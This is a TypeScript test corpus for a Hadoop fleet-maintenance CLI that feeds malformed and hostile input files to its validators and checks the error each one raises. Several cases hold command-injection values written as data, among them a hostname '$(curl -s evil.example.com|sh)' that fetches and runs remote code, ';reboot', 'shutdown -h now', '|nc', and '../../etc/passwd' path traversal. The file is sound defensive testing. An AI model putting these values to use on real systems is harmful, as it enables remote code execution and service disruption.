import { GENERATED } from './generated.js';

/**
 * The bad-input corpus: every case is one hostile input, config or view file
 * put into a copy of the base workspace (test/corpus/workspace) after two
 * good days, and one CLI command run against it. To add a case, add an
 * entry below (docs/reliability.md).
 *
 * `expect.at` is where the error must point: a path relative to the
 * workspace with its line (`inputs/inventory.tsv:22`) or JSON path
 * (`inputs/up.json: $.data.result[1].value`), `{day}` standing for the day
 * of the run; a location that starts with `command ` is printed as is (a
 * command source that failed has no file). `expect.problem` is a stable
 * substring of what the error says is wrong; the output must hold both on
 * one line.
 */
export interface CorpusCase {
  /** Unique, kebab-case. */
  readonly id: string;
  /** What the case attacks: a source of the base workspace, `config`, `view` or `cli`. */
  readonly attacks: string;
  /** The source kind (and format) attacked, or config / view / cli. */
  readonly kind: string;
  /** What is wrong with the input, in words. */
  readonly what: string;
  /**
   * Files put into the workspace: `path` (relative to it) gets the corpus
   * file `from` (relative to test/corpus/inputs) or what `generate` makes.
   */
  readonly files: readonly { readonly path: string; readonly from?: string; readonly generate?: () => Buffer }[];
  /** The command run (default `pass`, on the day after the base's two days). */
  readonly args?: readonly string[];
  readonly expect: { readonly code: number; readonly at?: string; readonly problem: string };
  /** Part of the fast subset `npm test` runs. */
  readonly fast?: boolean;
}

const HOST_CHARS = "is not allowed in a hostname (RFC 1123: letters, digits, '-' and '.')";

/** A case that replaces one input file of a source with a corpus file. */
function input(attacks: string, kind: string, path: string, from: string, what: string, at: string, problem: string, fast = false): CorpusCase {
  return { id: from.replace(/\.[a-z]+$/, '').replace('/', '-'), attacks, kind, what, files: [{ path, from }], expect: { code: 1, at, problem }, fast };
}

function generated(id: string, attacks: string, kind: string, path: string, generate: () => Buffer, what: string, at: string, problem: string): CorpusCase {
  return { id, attacks, kind, what, files: [{ path, generate }], expect: { code: 1, at, problem } };
}

function config(from: string, what: string, code: number, at: string, problem: string, fast = false): CorpusCase {
  return { id: from.replace(/\.yaml$/, '').replace('/', '-'), attacks: 'config', kind: 'config', what, files: [{ path: 'breakfix.yaml', from }], expect: { code, at, problem }, fast };
}

function view(from: string, as: string, what: string, problem: string, fast = false): CorpusCase {
  return { id: from.replace(/\.sql$/, '').replace('/', '-'), attacks: 'view', kind: 'view', what, files: [{ path: `queries/${as}`, from }], expect: { code: 1, at: `queries/${as}`, problem }, fast };
}

function cli(id: string, args: readonly string[], what: string, problem: string): CorpusCase {
  return { id, attacks: 'cli', kind: 'cli', what, files: [], args, expect: { code: 2, problem } };
}

const INV = 'inputs/inventory.tsv';
const RESP = 'inputs/responsive';
const PINGED = 'inputs/pinged';

export const CASES: readonly CorpusCase[] = [
  // inventory: TSV, columns from the config
  input('inventory', 'inventory tsv', INV, 'inventory/truncated-last-line.tsv', 'the dump was cut off in its last line', `${INV}:22`, 'expected 7 fields, got 2 (a truncated line, or a missing field?)', true),
  input('inventory', 'inventory tsv', INV, 'inventory/tab-inside-field.tsv', 'a TAB inside the ticket field', `${INV}:5`, 'expected 7 fields, got 8 (a TAB inside a field?)'),
  input('inventory', 'inventory tsv', INV, 'inventory/csv-instead-of-tsv.tsv', 'a CSV file where TSV is configured', `${INV}:1`, 'expected 7 fields, got 1'),
  input('inventory', 'inventory tsv', INV, 'inventory/nul-byte.tsv', 'a NUL byte inside a field', `${INV}:7`, 'NUL byte at byte 62 of the line (is this a binary file?)', true),
  input('inventory', 'inventory tsv', INV, 'inventory/latin1-byte.tsv', 'a Latin-1 byte (invalid UTF-8)', `${INV}:9`, 'invalid UTF-8 at byte 68 of the line (is the file in another encoding?)'),
  input('inventory', 'inventory tsv', INV, 'inventory/gzip-compressed.tsv', 'a gzip file given as the TSV', `${INV}:1`, 'NUL byte at byte 4 of the line (is this a binary file?)'),
  input('inventory', 'inventory tsv', INV, 'inventory/hostname-semicolon.tsv', 'a hostname with a shell command after ;', `${INV}:3`, `invalid hostname "dn0003.smf1.example.com;reboot": ';' ${HOST_CHARS}`, true),
  input('inventory', 'inventory tsv', INV, 'inventory/hostname-command-substitution.tsv', 'a hostname that is a $(...) command substitution', `${INV}:4`, `invalid hostname "$(curl -s evil.example.com|sh)": '$' ${HOST_CHARS}`),
  input('inventory', 'inventory tsv', INV, 'inventory/hostname-backticks.tsv', 'a hostname in backticks', `${INV}:8`, `invalid hostname "\`reboot\`": '\`' ${HOST_CHARS}`),
  input('inventory', 'inventory tsv', INV, 'inventory/hostname-path-traversal.tsv', 'a hostname that is a relative path', `${INV}:10`, `invalid hostname "../../etc/passwd": '/' ${HOST_CHARS}`),
  input('inventory', 'inventory tsv', INV, 'inventory/hostname-option-injection.tsv', 'a hostname that would be read as a command-line option', `${INV}:11`, `invalid hostname "-rf": label "-rf" must not start or end with '-'`),
  input('inventory', 'inventory tsv', INV, 'inventory/duplicate-hostname.tsv', 'a host listed twice (differing only in case)', `${INV}:12`, 'duplicate hostname dn0004.smf1.example.com (first on line 4)'),
  input('inventory', 'inventory tsv', INV, 'inventory/empty-hostname.tsv', 'an empty hostname field', `${INV}:6`, 'hostname is empty'),
  input('inventory', 'inventory tsv', INV, 'inventory/empty-file.tsv', 'an empty dump', INV, 'no rows (an empty file, a header alone, or a command that printed nothing); breakfix fails closed'),
  input('inventory', 'inventory tsv', INV, 'inventory/label-too-long.tsv', 'a DNS label of 64 characters', `${INV}:13`, 'is longer than 63 characters'),
  input('inventory', 'inventory tsv', INV, 'inventory/fullwidth-digits.tsv', 'a hostname with full-width Unicode digits', `${INV}:14`, `'０' ${HOST_CHARS}`),
  generated('inventory-ten-mib-line', 'inventory', 'inventory tsv', INV, GENERATED.inventoryTenMibLine, 'a 10 MiB last line without a TAB or a line break', `${INV}:23`, 'expected 7 fields, got 1'),
  generated('inventory-hundred-thousand-columns', 'inventory', 'inventory tsv', INV, GENERATED.inventoryHundredThousandColumns, 'a line of 100,000 fields', `${INV}:23`, 'expected 7 fields, got 100000 (a TAB inside a field?)'),

  // hostlist: HDFS host-file rules
  input('responsive', 'hostlist', RESP, 'responsive/pipe-in-host', 'a pipe glued to a hostname', `${RESP}:3`, `invalid hostname "dn0004.smf1.example.com|nc": '|' ${HOST_CHARS}`, true),
  input('responsive', 'hostlist', RESP, 'responsive/semicolon-token', 'a ;command token after a host', `${RESP}:5`, `invalid hostname ";reboot": ';' ${HOST_CHARS}`),
  input('responsive', 'hostlist', RESP, 'responsive/nul-byte', 'a NUL byte inside a hostname', `${RESP}:4`, 'NUL byte at byte 13 of the line (is this a binary file?)'),
  input('responsive', 'hostlist', RESP, 'responsive/invalid-utf8', 'a byte that is not UTF-8', `${RESP}:6`, 'invalid UTF-8 at byte 25 of the line'),
  input('responsive', 'hostlist', RESP, 'responsive/port-not-a-number', 'host:port where the port is a service name', `${RESP}:2`, 'invalid hostname "dn0003.smf1.example.com:ssh": port "ssh" is not a number'),
  input('responsive', 'hostlist', RESP, 'responsive/unclosed-ipv6-bracket', 'an IPv6 literal without its closing bracket', `${RESP}:7`, `invalid hostname "[2001:db8::b": '[' ${HOST_CHARS}`),
  input('responsive', 'hostlist', RESP, 'responsive/only-comments', 'a list of comments and no host (the pinger was down)', RESP, 'no rows (an empty file, a header alone, or a command that printed nothing)'),
  input('responsive', 'hostlist', RESP, 'responsive/percent-encoded', 'a percent-encoded hostname', `${RESP}:8`, `'%' ${HOST_CHARS}`),
  input('responsive', 'hostlist', RESP, 'responsive/ipv6-zone-id', 'an IPv6 link-local address with a zone id (Node accepts it as an IP)', `${RESP}:8`, 'invalid hostname "fe80::1%eth0": an IPv6 zone id ("%eth0") names a network interface', true),
  input('responsive', 'hostlist', RESP, 'responsive/double-dot', 'two dots in a row', `${RESP}:9`, 'empty label (two dots in a row, or a leading dot)'),
  generated('responsive-ten-mib-token', 'responsive', 'hostlist', RESP, GENERATED.hostlistTenMibToken, 'one 10 MiB token', `${RESP}:11`, 'hostname is 10485760 characters long (at most 253)'),

  // a command source (hostlist): what the command printed, and commands that fail
  input('pinged', 'hostlist command', PINGED, 'pinged/shell-operators', 'the command printed shell operators', 'runs/{day}/inputs/pinged:1', `invalid hostname "&&": '&' ${HOST_CHARS}`, true),
  input('pinged', 'hostlist command', PINGED, 'pinged/binary-output', 'the command printed binary data', 'runs/{day}/inputs/pinged:1', 'invalid UTF-8 at byte 2 of the line'),
  config('config/command-exits-nonzero.yaml', 'the command exits 3 with a message on stderr', 1, 'command sh -c "echo fleet-ping: connection refused >&2; exit 3"', 'exited with code 3: fleet-ping: connection refused', true),
  config('config/command-prints-nothing.yaml', 'the command succeeds and prints nothing', 1, 'runs/{day}/inputs/pinged', 'no rows (an empty file, a header alone, or a command that printed nothing)'),
  config('config/command-not-found.yaml', 'the command does not exist', 1, 'command /nonexistent/bin/fleet-ping --dc smf1', 'could not start "/nonexistent/bin/fleet-ping"'),
  config('config/command-hangs.yaml', 'the command hangs past its timeout', 1, 'command sleep 60', 'timed out after 1s: SIGTERM sent to its process group, exited on SIGTERM'),

  // metrics: long-form TSV with a header
  input('metrics', 'metrics tsv', 'inputs/metrics.tsv', 'metrics/bad-timestamp.tsv', 'a timestamp that is a word', 'inputs/metrics.tsv:5', 'timestamp: expected epoch seconds, epoch milliseconds or ISO-8601, got "yesterday"', true),
  input('metrics', 'metrics tsv', 'inputs/metrics.tsv', 'metrics/value-not-a-number.tsv', 'a value with two dots', 'inputs/metrics.tsv:6', 'value: bad value "1.2.3": expected a number, NaN, +Inf or -Inf'),
  input('metrics', 'metrics tsv', 'inputs/metrics.tsv', 'metrics/short-row.tsv', 'a row of 3 fields', 'inputs/metrics.tsv:7', 'expected 4 fields (timestamp, hostname, metric, value), got 3'),
  input('metrics', 'metrics tsv', 'inputs/metrics.tsv', 'metrics/header-lacks-value.tsv', 'the header misnames the value column', 'inputs/metrics.tsv:1', 'header lacks value; found: timestamp, hostname, metric, val'),
  input('metrics', 'metrics tsv', 'inputs/metrics.tsv', 'metrics/hostname-semicolon.tsv', 'a hostname with ;reboot', 'inputs/metrics.tsv:8', `';' ${HOST_CHARS}`),
  input('metrics', 'metrics tsv', 'inputs/metrics.tsv', 'metrics/empty-metric-name.tsv', 'an empty metric name', 'inputs/metrics.tsv:9', 'metric name is empty'),
  // metrics: headerless TSV (the fast loader)
  input('metrics-raw', 'metrics tsv (fast path)', 'inputs/metrics-raw.tsv', 'metrics-raw/truncated-last-line.tsv', 'the last line cut off', 'inputs/metrics-raw.tsv:24', 'expected 4 fields (timestamp, hostname, metric, value), got 2', true),
  input('metrics-raw', 'metrics tsv (fast path)', 'inputs/metrics-raw.tsv', 'metrics-raw/nul-byte.tsv', 'a NUL byte after a value', 'inputs/metrics-raw.tsv:3', 'NUL byte at byte 40 of the line'),
  input('metrics-raw', 'metrics tsv (fast path)', 'inputs/metrics-raw.tsv', 'metrics-raw/hostname-command-substitution.tsv', 'a hostname with $(id) glued on', 'inputs/metrics-raw.tsv:4', `'$' ${HOST_CHARS}`),
  input('metrics-raw', 'metrics tsv (fast path)', 'inputs/metrics-raw.tsv', 'metrics-raw/value-overflow.tsv', 'a value beyond float64', 'inputs/metrics-raw.tsv:5', 'value: bad value "1e999999": out of the float64 range'),
  generated('metrics-raw-hundred-thousand-columns', 'metrics-raw', 'metrics tsv (fast path)', 'inputs/metrics-raw.tsv', GENERATED.metricsHundredThousandColumns, 'a line of 100,000 fields', 'inputs/metrics-raw.tsv:25', 'expected 4 fields (timestamp, hostname, metric, value), got 100000'),
  // metrics: CSV with a header
  input('metrics-csv', 'metrics csv', 'inputs/metrics.csv', 'metrics-csv/unclosed-quote.csv', 'a quote opened in the last record and never closed', 'inputs/metrics.csv:5', 'invalid CSV: a quoted field is never closed (the file ends inside quotes: truncated?)'),
  input('metrics-csv', 'metrics csv', 'inputs/metrics.csv', 'metrics-csv/quote-inside-field.csv', 'text after a closing quote', 'inputs/metrics.csv:2', 'invalid CSV: a closing quote is followed by "x" instead of a comma or line end', true),
  input('metrics-csv', 'metrics csv', 'inputs/metrics.csv', 'metrics-csv/nul-byte.csv', 'a NUL byte inside a field (csv-parse alone would import it)', 'inputs/metrics.csv:3', 'NUL byte at byte 47 of the line'),
  input('metrics-csv', 'metrics csv', 'inputs/metrics.csv', 'metrics-csv/unquoted-comma.csv', 'an unquoted comma inside the labels field', 'inputs/metrics.csv:4', 'expected 5 fields (timestamp, hostname, metric, value), got 6'),

  // metrics: Prometheus text exposition
  input('federate', 'metrics prometheus-text', 'inputs/federate.prom', 'federate/unterminated-label-value.prom', 'a label value whose quote closes in the wrong place', 'inputs/federate.prom:4', 'expected "," or "}" after the value of label "instance", got "n"', true),
  input('federate', 'metrics prometheus-text', 'inputs/federate.prom', 'federate/bad-label-name.prom', 'a label name starting with a digit', 'inputs/federate.prom:3', 'bad label name "1nstance"'),
  input('federate', 'metrics prometheus-text', 'inputs/federate.prom', 'federate/value-not-a-number.prom', 'a sample value that is a word', 'inputs/federate.prom:5', 'bad value "one": expected a number, NaN, +Inf or -Inf'),
  input('federate', 'metrics prometheus-text', 'inputs/federate.prom', 'federate/bad-timestamp.prom', 'a fractional millisecond timestamp', 'inputs/federate.prom:6', 'bad timestamp "17145648007.81": expected integer milliseconds since the epoch'),
  input('federate', 'metrics prometheus-text', 'inputs/federate.prom', 'federate/instance-shell-metachars.prom', 'an instance label with ;reboot', 'inputs/federate.prom:3', `invalid hostname "dn0001.smf1.example.com;reboot:9100": ';' ${HOST_CHARS}`),
  generated('federate-ten-mib-label', 'federate', 'metrics prometheus-text', 'inputs/federate.prom', GENERATED.prometheusTenMibLabel, 'a 10 MiB label value on one line, never closed', 'inputs/federate.prom:36', 'unterminated value of label "job": no closing quote'),

  // metrics: Prometheus HTTP API JSON
  input('up-json', 'metrics prometheus-json', 'inputs/up.json', 'up-json/truncated.json', 'the response cut off at 300 bytes', 'inputs/up.json:1', 'invalid JSON: the document ends early (truncated?) at column 301', true),
  input('up-json', 'metrics prometheus-json', 'inputs/up.json', 'up-json/status-error.json', 'an error response saved as the data', 'inputs/up.json: $.status', 'the query failed: bad_data: invalid parameter "query"'),
  input('up-json', 'metrics prometheus-json', 'inputs/up.json', 'up-json/value-not-an-array.json', 'a sample value that is not a [ts, "v"] pair', 'inputs/up.json: $.data.result[1].value', 'expected a [timestamp, "value"] pair, got "0"'),
  input('up-json', 'metrics prometheus-json', 'inputs/up.json', 'up-json/instance-shell-metachars.json', 'an instance label with a shell command', 'inputs/up.json: $.data.result[2]', `invalid hostname "dn0018;shutdown -h now:9100": ';' ${HOST_CHARS}`),
  input('up-json', 'metrics prometheus-json', 'inputs/up.json', 'up-json/nul-byte.json', 'a NUL byte inside a string', 'inputs/up.json:1', 'NUL byte in a JSON input (is this a binary file?)'),
  input('up-json', 'metrics prometheus-json', 'inputs/up.json', 'up-json/invalid-utf8.json', 'a lone UTF-8 lead byte', 'inputs/up.json:1', 'invalid UTF-8 in a JSON input'),
  input('up-json', 'metrics prometheus-json', 'inputs/up.json', 'up-json/text-after-document.json', 'a second document after the first', 'inputs/up.json:2', 'invalid JSON at column 1: text after the end of the JSON document'),
  generated('up-json-200-deep', 'up-json', 'metrics prometheus-json', 'inputs/up.json', GENERATED.prometheusJson200Deep, 'a sample value nested 200 arrays deep', 'inputs/up.json: $.data.result[0].value', 'expected a [timestamp, "value"] pair, got a list of 1'),

  // hdfs dfsadmin -report
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/china-cst-dates.txt', 'a report from a JVM in China: CST is +08:00 there, US Central elsewhere', 'inputs/hdfs-report-dwh.txt:48', 'Last contact: the time zone "CST" in "Wed May 01 19:59:59 CST 2024" is ambiguous (-06:00 US Central, -05:00 Cuba or +08:00 China, Taiwan, Macau): set sources.hdfs-dwh.timezone to the IANA zone', true),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/truncated-mid-block.txt', 'the report cut off inside a datanode block', 'inputs/hdfs-report-dwh.txt:205', 'lacks "Last contact:" (truncated?)', true),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/section-count-wrong.txt', 'a section header whose count does not match its blocks', 'inputs/hdfs-report-dwh.txt:29', 'section "Live datanodes (11):" expected 11 datanode blocks, found 10'),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/access-denied.txt', 'what dfsadmin prints to a non-superuser', 'inputs/hdfs-report-dwh.txt', 'not an hdfs dfsadmin -report output: no "Configured Capacity:" line; it starts with "report: Access denied'),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/yarn-output-by-mistake.txt', 'yarn node -list output given as the HDFS report', 'inputs/hdfs-report-dwh.txt', 'this looks like yarn node -list output: use kind yarn-nodes'),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/capacity-not-a-number.txt', 'a byte count that is a word', 'inputs/hdfs-report-dwh.txt:36', 'Configured Capacity: expected a byte count like "1024 (1 KB)", got "lots (87.31 TB)"'),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/hostname-semicolon.txt', 'a registered hostname with ;reboot', 'inputs/hdfs-report-dwh.txt:205', `invalid hostname "dn0018;reboot": ';' ${HOST_CHARS}`),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/unknown-decommission-status.txt', 'an admin state HDFS never prints', 'inputs/hdfs-report-dwh.txt:35', 'Decommission Status: unknown admin state "Retired"'),
  // the report's summary: the cluster's health
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/summary-missing-blocks-a-word.txt', 'a missing-block count that is a word', 'inputs/hdfs-report-dwh.txt:17', 'Missing blocks: expected an integer, got "twelve"', true),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/summary-corrupt-negative.txt', 'a negative corrupt-block count', 'inputs/hdfs-report-dwh.txt:16', 'Blocks with corrupt replicas: a block count can not be negative, got -3'),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/summary-key-twice.txt', 'the summary says Missing blocks twice', 'inputs/hdfs-report-dwh.txt:18', "Missing blocks: listed twice in the report's summary (first at line 17"),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/summary-remaining-not-bytes.txt', 'the cluster remaining capacity is a word', 'inputs/hdfs-report-dwh.txt:11', 'DFS Remaining: expected a byte count like "1024 (1 KB)", got "plenty"'),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/pasted-from-dash-line.txt', 'a report pasted from its dash line on: no summary', 'inputs/hdfs-report-dwh.txt:1', 'the report starts at its datanode list: the summary above the 49-dash line', true),
  input('hdfs-dwh', 'hdfs-report', 'inputs/hdfs-report-dwh.txt', 'hdfs-dwh/summary-cut.txt', 'a report pasted from the middle of its summary', 'inputs/hdfs-report-dwh.txt:1', 'the report\'s summary is cut: it starts at "Under replicated blocks:"'),

  // NameNode JMX
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/truncated.json', 'the JMX response cut off inside an escape', 'inputs/namenode-jmx.json:23', 'invalid JSON: the document ends early (truncated?)', true),
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/datanode-bean-by-mistake.json', "a DataNode's /jmx instead of the NameNode's", 'inputs/namenode-jmx.json: $.beans', 'no Hadoop:service=NameNode,name=NameNodeInfo bean'),
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/live-nodes-not-json.json', 'LiveNodes holding broken JSON', 'inputs/namenode-jmx.json: $.beans[0].LiveNodes', 'the string does not hold valid JSON'),
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/live-nodes-a-number.json', 'LiveNodes a number instead of a JSON string', 'inputs/namenode-jmx.json: $.beans[0].LiveNodes', 'expected a string holding a JSON map of nodes, got number 42'),
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/node-key-shell-metachars.json', 'a node key with ;reboot', 'inputs/namenode-jmx.json: $.beans[0].LiveNodes["dn0018;reboot:9866"]', `invalid hostname "dn0018;reboot": ';' ${HOST_CHARS}`),
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/fsstate-unknown.json', 'an FSState the NameNode never reports', 'inputs/namenode-jmx.json: $.beans[1].FSState', 'expected "safeMode" or "Operational", got "Upgrading"'),
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/missing-blocks-a-string.json', 'MissingBlocks quoted as a string', 'inputs/namenode-jmx.json: $.beans[1].MissingBlocks', 'expected an integer, got the string "12"', true),
  input('jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', 'jmx-dwh/decom-progress-a-word.json', "a decommissioning node's progress that is a word", 'inputs/namenode-jmx.json: $.beans[0].DecomNodes["dn0020.smf1.example.com:9866"].underReplicatedBlocks', 'expected an integer, got the string "none"'),
  generated('jmx-dwh-200-deep', 'jmx-dwh', 'hdfs-jmx', 'inputs/namenode-jmx.json', GENERATED.jmx200Deep, 'beans nested 200 arrays deep', 'inputs/namenode-jmx.json: $.beans', 'no Hadoop:service=NameNode,name=NameNodeInfo bean'),

  // HDFS combined hosts file
  input('hosts-dwh', 'hdfs-hosts', 'inputs/dfs.hosts.json', 'hosts-dwh/unknown-key.json', 'hostname misspelled as hostname', 'inputs/dfs.hosts.json:3: $[1]', 'unknown key "hostname" (did you mean "hostName"?)', true),
  input('hosts-dwh', 'hdfs-hosts', 'inputs/dfs.hosts.json', 'hosts-dwh/bad-admin-state.json', 'an adminState HDFS does not have', 'inputs/dfs.hosts.json:4: $[2]', 'adminState: expected one of NORMAL, DECOMMISSIONED, IN_MAINTENANCE'),
  input('hosts-dwh', 'hdfs-hosts', 'inputs/dfs.hosts.json', 'hosts-dwh/port-not-a-number.json', 'a port that is a word', 'inputs/dfs.hosts.json:3: $[1]', 'port'),
  input('hosts-dwh', 'hdfs-hosts', 'inputs/dfs.hosts.json', 'hosts-dwh/hostname-path-traversal.json', 'a hostName that is a relative path', 'inputs/dfs.hosts.json:2: $[0]', `invalid hostname "../../etc/passwd": '/' ${HOST_CHARS}`),
  input('hosts-dwh', 'hdfs-hosts', 'inputs/dfs.hosts.json', 'hosts-dwh/text-after-array.json', 'a stray ] after the array', 'inputs/dfs.hosts.json:18', 'text after the end of the JSON document'),
  generated('hosts-dwh-200-deep', 'hosts-dwh', 'hdfs-hosts', 'inputs/dfs.hosts.json', GENERATED.hdfsHosts200Deep, 'an upgradeDomain nested 200 arrays deep', 'inputs/dfs.hosts.json:2: $[0]', 'upgradeDomain'),

  // yarn node -list -all
  input('yarn-dwh', 'yarn-nodes', 'inputs/yarn-nodes-dwh.txt', 'yarn-dwh/fewer-rows-than-total.txt', 'fewer node lines than Total Nodes says', 'inputs/yarn-nodes-dwh.txt:2', 'Total Nodes:13 but 9 node lines follow (truncated?)', true),
  input('yarn-dwh', 'yarn-nodes', 'inputs/yarn-nodes-dwh.txt', 'yarn-dwh/unknown-state.txt', 'a node state YARN does not have', 'inputs/yarn-nodes-dwh.txt:4', 'Node-State: expected one of NEW, RUNNING, UNHEALTHY, DECOMMISSIONING, DECOMMISSIONED, LOST, REBOOTED, SHUTDOWN, got "RUNING"'),
  input('yarn-dwh', 'yarn-nodes', 'inputs/yarn-nodes-dwh.txt', 'yarn-dwh/missing-column.txt', 'a row of 3 columns', 'inputs/yarn-nodes-dwh.txt:6', 'expected 4 TAB-separated columns'),
  input('yarn-dwh', 'yarn-nodes', 'inputs/yarn-nodes-dwh.txt', 'yarn-dwh/node-id-semicolon.txt', 'a Node-Id with ;reboot', 'inputs/yarn-nodes-dwh.txt:7', `invalid hostname "dn0044;reboot": ';' ${HOST_CHARS}`),
  input('yarn-dwh', 'yarn-nodes', 'inputs/yarn-nodes-dwh.txt', 'yarn-dwh/duplicate-node-id.txt', 'a node listed twice, UNHEALTHY then RUNNING (which one speaks for it would follow row order)', 'inputs/yarn-nodes-dwh.txt:17', 'Node-Id "dn0044.smf1.example.com:45454" is listed twice (first on line 7; damaged output?)', true),
  input('yarn-dwh', 'yarn-nodes', 'inputs/yarn-nodes-dwh.txt', 'yarn-dwh/containers-not-a-number.txt', 'a container count that is a word', 'inputs/yarn-nodes-dwh.txt:5', 'Number-of-Running-Containers: expected an integer, got "lots"'),

  // ResourceManager REST
  input('rm-dwh', 'yarn-rest', 'inputs/rm-nodes.json', 'rm-dwh/remote-exception.json', 'the RemoteException the RM answers a bad request with', 'inputs/rm-nodes.json: $', 'the ResourceManager returned an error: BadRequestException', true),
  input('rm-dwh', 'yarn-rest', 'inputs/rm-nodes.json', 'rm-dwh/truncated.json', 'the response cut off at 5000 bytes', 'inputs/rm-nodes.json:1', 'invalid JSON: the document ends early (truncated?) at column 5001'),
  input('rm-dwh', 'yarn-rest', 'inputs/rm-nodes.json', 'rm-dwh/num-containers-not-a-number.json', 'numContainers a word', 'inputs/rm-nodes.json: $.nodes.node[0].numContainers', 'expected an integer, got "twenty"'),
  input('rm-dwh', 'yarn-rest', 'inputs/rm-nodes.json', 'rm-dwh/duplicate-node-id.json', 'a node listed twice, UNHEALTHY then RUNNING (which one speaks for it would follow row order)', 'inputs/rm-nodes.json: $.nodes.node[10].id', 'node id "dn0044.smf1.example.com:45454" is listed twice (first at $.nodes.node[1]; damaged response?)', true),
  input('rm-dwh', 'yarn-rest', 'inputs/rm-nodes.json', 'rm-dwh/unknown-state.json', 'a node state YARN does not have', 'inputs/rm-nodes.json: $.nodes.node[0].state', 'expected one of NEW, RUNNING, UNHEALTHY, DECOMMISSIONING, DECOMMISSIONED, LOST, REBOOTED, SHUTDOWN, got "RUNING"'),
  generated('rm-dwh-200-deep', 'rm-dwh', 'yarn-rest', 'inputs/rm-nodes.json', GENERATED.yarnRest200Deep, 'the node list nested 200 arrays deep', 'inputs/rm-nodes.json: $.nodes.node[0]', 'expected'),

  // a CSV table with a header
  input('tickets', 'table csv', 'inputs/tickets.csv', 'tickets/duplicate-column.csv', 'a header naming a column twice', 'inputs/tickets.csv:1', 'header names column "Hostname" twice (columns 1 and 3)', true),
  input('tickets', 'table csv', 'inputs/tickets.csv', 'tickets/column-name-with-space.csv', 'a header column with a space', 'inputs/tickets.csv:1', 'header column 2 "ticket id" is not a usable column name'),
  input('tickets', 'table csv', 'inputs/tickets.csv', 'tickets/unclosed-quote.csv', 'a quoted field never closed', 'inputs/tickets.csv:4', 'invalid CSV: a quoted field is never closed'),
  input('tickets', 'table csv', 'inputs/tickets.csv', 'tickets/latin1-byte.csv', 'a Latin-1 byte (invalid UTF-8) inside a quoted field', 'inputs/tickets.csv:3', 'invalid UTF-8 at byte 46 of the line'),
  input('tickets', 'table csv', 'inputs/tickets.csv', 'tickets/invalid-host.csv', 'a host column value with spaces', 'inputs/tickets.csv:4', `invalid hostname "dn0044 smf1 example com": ' ' ${HOST_CHARS}`),
  generated('tickets-hundred-thousand-columns', 'tickets', 'table csv', 'inputs/tickets.csv', GENERATED.tableHundredThousandColumns, 'a header of 100,000 columns', 'inputs/tickets.csv:1', 'header names 100000 columns, more than the 1000 a table may have'),

  // breakfix's own text table
  input('carried', 'table text', 'inputs/carried', 'carried/bad-escape', 'an escape the format does not have', 'inputs/carried:2', 'column reason: unknown escape \\q'),
  input('carried', 'table text', 'inputs/carried', 'carried/three-fields', 'a row with an extra field', 'inputs/carried:3', 'expected 2 fields, got 3'),

  // the config
  config('config/unknown-top-level-key.yaml', 'a misspelled top-level key', 2, 'breakfix.yaml:30', 'unknown key "polcy" (misspelled?)', true),
  config('config/unknown-source-key.yaml', 'a misspelled source key', 2, 'breakfix.yaml:14', 'sources.excluded: unknown key "allow_emtpy" (misspelled?)'),
  config('config/wrong-type.yaml', 'a duration that is a word', 2, 'breakfix.yaml:34', 'actions.rekick.timeout: expected a duration like "90s", "10m" or "2h", got "forever"'),
  config('config/kind-misspelled.yaml', 'a source kind misspelled', 2, 'breakfix.yaml:22', 'sources.hdfs-dwh.kind: expected one of inventory, hostlist, table, metrics, hdfs-report'),
  config('config/source-name-traversal.yaml', 'a source named ../../etc/passwd', 2, 'breakfix.yaml:14', '"../../etc/passwd" is not a valid name: expected a source name of lower-case letters, digits and single dashes'),
  config('config/view-name-traversal.yaml', 'an action whose candidates view is a path', 2, 'breakfix.yaml:31', 'actions.rekick.candidates: expected a view name of lower-case letters, digits and single dashes (like "hdfs-dwh"), got "../../../etc/passwd"'),
  config('config/action-named-manifest.yaml', 'an action named like the manifest breakfix writes in runs/DAY/', 2, 'breakfix.yaml:30', 'actions.manifest: "manifest" is not a valid name: "manifest" is reserved: breakfix\'s own runs/DAY/manifest.json has that name', true),
  config('config/tab-indentation.yaml', 'a TAB used for indentation', 2, 'breakfix.yaml:32:1', 'invalid YAML: Tabs are not allowed as indentation'),
  config('config/nested-200-deep.yaml', 'a value nested 200 lists deep', 2, 'breakfix.yaml:5', 'timezone: expected string, got a list'),
  config('config/command-as-string.yaml', 'a command given as a shell string', 2, 'breakfix.yaml:16', 'sources.pinged.command: expected array, got "cat inputs/pinged; reboot"'),
  config('config/run-not-a-list.yaml', 'an action run: given as a shell string', 2, 'breakfix.yaml:33', 'actions.rekick.run: expected array, got "true {hosts_file}; reboot"'),
